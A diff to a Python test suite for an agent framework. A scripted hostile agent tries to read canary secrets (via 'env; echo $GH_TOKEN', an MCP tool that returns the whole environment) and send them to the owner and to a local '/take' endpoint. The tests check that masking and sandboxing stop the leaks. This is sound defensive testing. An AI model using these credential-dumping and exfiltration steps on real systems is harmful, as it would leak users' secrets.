@@ -11,32 +11,34 @@ import base64
 import io
 import json
 import logging
+import os
 import shlex
 from collections.abc import AsyncGenerator, Callable, Iterator
-from contextlib import asynccontextmanager
+from contextlib import asynccontextmanager, suppress
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import msgspec
 import pytest
 import sqlalchemy as sa
+from agents.skill_folders import write_skill
 from desk.desk_house import person
+from tools.mcp_stand_ins import small
 from tools.web_stand_ins import Reply, site
 
+from retinue import daemon
 from retinue.config import load
 from retinue.connectors.masked import Masked
 from retinue.daemon import House, default_parts, open_house
 from retinue.domain.agent import Agent
-from retinue.domain.envelope import Draft, Receipt
-from retinue.domain.errors import RetinueError
-from retinue.domain.ports import Post
+from retinue.domain.errors import Invalid, RetinueError
 from retinue.domain.tool import ToolResult
 from retinue.logs import LogLine, set_masks
 from retinue.models.base import Prompt
 from retinue.operations.base import perform
 from retinue.operations.catalog import OPERATIONS
-from retinue.operations.known_secrets import known_secrets
 from retinue.policy.masking import Masks, forms_of
 from retinue.policy.tools import Circumstances
 from retinue.store import approvals, envelopes
@@ -50,13 +52,15 @@ OWNER = person("owner")
 ADA = Agent(name="ada", model="scripted")
 WAIT_S = 120.0
 # Tools that tell nothing which another of these does not: what a browser shows, it shows after each act.
-OTHERS = {"browser_act", "request_permission_via_parent", "grant_permission", "gateway"}
+OTHERS = {"browser_act", "request_permission_via_parent", "grant_permission", "gateway", "notify", "ask_questions"}
 CANARIES = {
     "variable": "canary-in-the-environment-0a1b2c",
     "key file": "canary-in-a-key-file-3d4e5f",
     "header": "canary-in-a-header-6a7b8c",
     "command's": "canary-for-one-command-9d0e1f",
     "own key": "canary-kept-by-the-house-2a3b4c",
+    "server's": "canary-for-a-server-5d6e7f",
+    "skill's": "canary-for-a-skill-8a9b0c",
 }
 SETTINGS = """
 [house.listen]
@@ -74,6 +78,17 @@ kind = "{sandbox}"
 secret = {{ file = "{keys}/github" }}
 variable = "GH_TOKEN"
 commands = ["/usr/bin/env", "/usr/bin/bash", "/usr/bin/dash", "/bin/sh", "/usr/bin/sh"]
+
+[mcp.kitchen]
+command = {command}
+readable = ["{kitchen}"]
+env = {{ STOVE = {{ env = "KITCHEN_STOVE" }} }}
+
+[skills]
+trusted = ["agent"]
+
+[skills.entries.baking]
+env = {{ OVEN = {{ file = "{keys}/oven" }} }}
 
 [tools.exec]
 security = "full"
@@ -93,8 +108,10 @@ class Ground:
     home: Path
     keys: Path
     port: int = 0
+    command: tuple[str, ...] = ()
     log: io.StringIO = field(default_factory=io.StringIO)
     heard: list[str] = field(default_factory=list[str])
+    addresses: Callable[[], list[str]] = list  # what others were asked for
 
     def attempts(self) -> list[Line]:
         """What a hostile agent would try. It knows where everything lies."""
@@ -127,6 +144,7 @@ class Ground:
             calls("write", path="asked.txt", content="x"),
             calls("exec", command="/bin/sh -c 'env; echo $GH_TOKEN; sleep 0.3'", background=True),
             calls("process", action="list"),
+            calls("mcp_kitchen_leak"),
             calls("request_permission", permission="web", reason="because"),
         ]
 
@@ -135,8 +153,9 @@ def results(prompt: Prompt) -> list[ToolResult]:
     return [record.body for record in prompt.records if isinstance(record.body, ToolResult)]
 
 
-def hostile(attempts: Iterator[Line]) -> Callable[[Prompt], Line]:
-    """Makes each attempt, then tells all that it has read: to the owner in a message, and in its answer."""
+def hostile(attempts: Iterator[Line], port: int) -> Callable[[Prompt], Line]:
+    """Makes each attempt, then tells what it has read: to the owner in a message, to a server by an address, and in its
+    answer."""
     told: list[str] = []
 
     def rule(prompt: Prompt) -> Line:
@@ -146,6 +165,10 @@ def hostile(attempts: Iterator[Line]) -> Callable[[Prompt], Line]:
         if not told:
             told.append(seen)
             return calls("message", to="person:owner", text=seen[:60_000])
+        if len(told) == 1:
+            told.append(seen)
+            sent = quote(next((each for each in CANARIES.values() if each in seen), "nothing"))
+            return calls("web_fetch", url=f"http://127.0.0.1:{port}/take?{sent}")
         return says(seen[:60_000])
 
     return rule
@@ -154,17 +177,28 @@ def hostile(attempts: Iterator[Line]) -> Callable[[Prompt], Line]:
 @asynccontextmanager
 async def ground(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncGenerator[Ground]:
     made = Ground(tmp_path / "home", tmp_path / "keys")
-    for folder in (made.home, made.home / "keys" / "house", made.keys):
+    kitchen = tmp_path / "kitchen"
+    for folder in (made.home, made.home / "keys" / "house", made.keys, kitchen):
         folder.mkdir(parents=True, mode=0o700)
+    write_skill(made.home / "agents" / "ada" / "skills", "baking")
+    made.command = small(
+        kitchen,
+        """
+        sys.stderr.write(f"cannot heat {os.environ['STOVE']}\\n")
+        serve(lambda: [tool("leak")], lambda params, id: text(str(dict(os.environ))))
+        """,
+    )
     for name, path in (
         ("key file", made.keys / "acme"),
         ("command's", made.keys / "github"),
+        ("skill's", made.keys / "oven"),
         ("own key", made.home / "keys" / "house" / "acme:second.0"),
     ):
         path.write_text(CANARIES[name] + "\n")
         path.chmod(0o600)
     monkeypatch.setenv("ACME_API_KEY", CANARIES["variable"])
     monkeypatch.setenv("ACME_HEADER_VALUE", CANARIES["header"])
+    monkeypatch.setenv("KITCHEN_STOVE", CANARIES["server's"])
     monkeypatch.setenv("RETINUE_HOME", str(made.home))
     # A server that tells whoever asks what others have sent it.
     echoed = f"<html><body><p>You sent: {CANARIES['header']} and {CANARIES['variable']}</p></body></html>"
@@ -172,58 +206,57 @@ async def ground(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncGenera
     replies = {
         "/echo": Reply(echoed),
         "/fails": Reply(f"bad key {CANARIES['header']}", 401, type="text/plain"),
+        "/take": Reply("taken", type="text/plain"),
         "/search": Reply(json.dumps(hits), type="application/json"),
     }
     async with site(replies) as server:
         made.port = server.port
+        made.addresses = lambda: server.paths
         yield made
 
 
-@dataclass(frozen=True)
-class MaskedPost:
-    """The way out for whatever tools have to say on their own: messages, and how a command ended."""
-
-    post_: Post
-    mask: Callable[[str], str]
-
-    async def post(self, draft: Draft) -> Receipt:
-        return await self.post_.post(replace(draft, text=self.mask(draft.text)))
-
-
 @asynccontextmanager
-async def opened(made: Ground, model: ScriptedModel, *, sandbox: str, masked: bool) -> AsyncGenerator[House]:
-    (made.home / "retinue.toml").write_text(SETTINGS.format(keys=made.keys, port=made.port, sandbox=sandbox))
+async def opened(made: Ground, model: ScriptedModel, *, sandbox: str, masked: bool = True) -> AsyncGenerator[House]:
+    """The house as the daemon puts it together. Not `masked`: but that it learns of no secret."""
+    (made.home / "retinue.toml").write_text(
+        SETTINGS.format(
+            keys=made.keys,
+            port=made.port,
+            sandbox=sandbox,
+            command=json.dumps(made.command),
+            kitchen=Path(made.command[-1]).parent,
+        )
+    )
     (made.home / "owner-token").write_text("OwnersOwnToken0123456789OwnersOwnToken01234")
     (made.home / "owner-token").chmod(0o600)
-    configuration = load({"RETINUE_HOME": str(made.home)})
-    parts = replace(
-        default_parts(),
-        models=(model,),
-        staff=(ADA,),
-        configuration=configuration,
-    )
+    configuration = load(os.environ)
+    parts = replace(default_parts(), models=(model,), staff=(ADA,), configuration=configuration)
     handler = logging.StreamHandler(made.log)
     handler.setFormatter(LogLine())
     root = logging.getLogger()
     root.addHandler(handler)
     try:
-        async with open_house(configuration.settings, parts) as house:
-            toolbox = house.desk.toolbox
-            assert toolbox is not None
-            masks = Masks(await known_secrets(house.store, configuration.settings, _environment(made)))
-            mask = masks.mask if masked else str
-            toolbox._mask = mask  # pyright: ignore[reportPrivateUsage]
-            ways: Any = toolbox._tools["message"]  # pyright: ignore[reportPrivateUsage]
-            ways.post.inbox = MaskedPost(house.desk.post, mask)
-            set_masks(masks if masked else Masks())
-            yield house
+        with pytest.MonkeyPatch.context() as patch:
+            if not masked:
+                patch.setattr(daemon, "refresh_masks", _learn_nothing)
+            async with open_house(configuration.settings, parts) as house:
+                await _approve_kitchen(made, house)
+                yield house
     finally:
         set_masks(Masks())
         root.removeHandler(handler)
 
 
-def _environment(made: Ground) -> dict[str, str]:
-    return {"ACME_API_KEY": CANARIES["variable"], "ACME_HEADER_VALUE": CANARIES["header"]}
+async def _learn_nothing(*_anything: Any) -> None:
+    return
+
+
+async def _approve_kitchen(made: Ground, house: House) -> None:
+    deadline = asyncio.get_running_loop().time() + WAIT_S
+    while (shown := (await ask(made, house, "mcp.list"))["servers"][0])["state"] == "starting":
+        assert asyncio.get_running_loop().time() < deadline, "the server never begins"
+        await asyncio.sleep(0.02)
+    await ask(made, house, "mcp.approve", name="kitchen", hash=shown["hash"])
 
 
 async def ask(made: Ground, house: House, operation: str, **parameters: Any) -> Any:
@@ -267,8 +300,13 @@ async def everything(made: Ground, house: House, model: ScriptedModel, session: 
         ("credential.list", {}),
         ("config.show", {}),
         ("house.doctor", {}),
+        ("audit.list", {}),
+        ("audit.export", {}),
+        ("mcp.show", {"name": "kitchen"}),
+        ("skill.list", {"agent": "ada"}),
+        ("session.history", {"session": "no-such-session"}),
     ):
-        if operation in OPERATIONS:
+        with suppress(Invalid):  # an error is heard too
             await ask(made, house, operation, **parameters)
 
     def rows(conn: sa.Connection) -> list[str]:
@@ -276,7 +314,7 @@ async def everything(made: Ground, house: House, model: ScriptedModel, session: 
         return [str(tuple(row)) for table in tables for row in conn.execute(sa.select(table))]
 
     prompts = [str(msgspec.to_builtins(prompt, enc_hook=str)) for prompt in model.prompts]
-    return "\n".join((*await house.store.scan(rows), *prompts, *made.heard, made.log.getvalue()))
+    return "\n".join((*await house.store.scan(rows), *prompts, *made.heard, *made.addresses(), made.log.getvalue()))
 
 
 def found_in(text: str) -> dict[str, set[str]]:
@@ -297,8 +335,8 @@ async def test_no_canary_comes_out_by_any_tool_though_its_owner_allows_all(
     async with ground(tmp_path, monkeypatch) as made:
         parts = default_parts()
         model = ScriptedModel(parts.clock)
-        model.rule = hostile(iter(made.attempts()))
-        async with opened(made, model, sandbox="bubblewrap", masked=True) as house:
+        model.rule = hostile(iter(made.attempts()), made.port)
+        async with opened(made, model, sandbox="bubblewrap") as house:
             session = await run_it(made, house)
             seen = await everything(made, house, model, session)
             assert house.desk.toolbox is not None
@@ -308,6 +346,9 @@ async def test_no_canary_comes_out_by_any_tool_though_its_owner_allows_all(
     assert "OwnersOwnToken" not in seen
     assert "[secret:sandbox.secrets.github]" in seen  # the command could use it, and nobody could read it
     assert "[secret:providers.acme.headers.x-token]" in seen
+    assert "[secret:mcp.kitchen.env.STOVE]" in seen
+    assert "[secret:skills.entries.baking.env.OVEN]" in seen
+    assert "/take?nothing" in made.addresses()
 
 
 async def test_every_canary_comes_out_where_nothing_is_masked_or_confined(
@@ -316,12 +357,13 @@ async def test_every_canary_comes_out_where_nothing_is_masked_or_confined(
     """The control: what the test above looks for would be there."""
     async with ground(tmp_path, monkeypatch) as made:
         model = ScriptedModel(default_parts().clock)
-        model.rule = hostile(iter(made.attempts()))
+        model.rule = hostile(iter(made.attempts()), made.port)
         async with opened(made, model, sandbox="off", masked=False) as house:
             session = await run_it(made, house)
             seen = await everything(made, house, model, session)
     found = found_in(seen)
     assert set(found) == set(CANARIES)
+    assert found_in("\n".join(made.addresses()))
     assert base64.b64encode(f"{CANARIES['key file']}\n".encode()).decode()[:36] in seen
 
 
@@ -331,8 +373,8 @@ async def test_the_walls_alone_keep_what_no_command_needs_and_the_masks_alone_th
     """Each of the two has its part: without walls, what is known is still masked in all that is kept."""
     async with ground(tmp_path, monkeypatch) as made:
         model = ScriptedModel(default_parts().clock)
-        model.rule = hostile(iter(made.attempts()))
-        async with opened(made, model, sandbox="off", masked=True) as house:
+        model.rule = hostile(iter(made.attempts()), made.port)
+        async with opened(made, model, sandbox="off") as house:
             session = await run_it(made, house)
             seen = await everything(made, house, model, session)
     assert found_in(seen) == {}
